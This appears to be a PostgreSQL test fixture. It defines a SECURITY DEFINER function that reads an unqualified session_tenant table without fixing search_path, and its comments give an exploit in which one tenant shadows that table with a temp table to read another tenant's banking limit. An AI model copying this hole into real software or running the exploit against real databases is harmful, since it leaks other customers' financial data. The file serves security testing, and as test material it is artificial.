-- Tenant A puts a table of its own before the tables of the function and chooses its tenant.
-- about: my_limit
-- as: ho_wallet_api
-- exploit: SET bank.tenant_id = 'aaaaaaaa-0000-4000-8000-000000000000';
-- exploit: CREATE TEMP TABLE session_tenant (id uuid);
-- exploit: INSERT INTO session_tenant VALUES ('bbbbbbbb-0000-4000-8000-000000000000');
-- exploit: GRANT SELECT ON session_tenant TO PUBLIC;
-- exploit: SELECT api.my_limit();
-- shows: 4242
CREATE FUNCTION api.my_limit() RETURNS numeric LANGUAGE plpgsql STABLE SECURITY DEFINER
AS $$ BEGIN RETURN (SELECT daily FROM bank.limits WHERE tenant_id = (SELECT id FROM session_tenant)); END $$;
CREATE TABLE public.session_tenant (id uuid);
GRANT EXECUTE ON FUNCTION api.my_limit() TO ho_wallet_api;
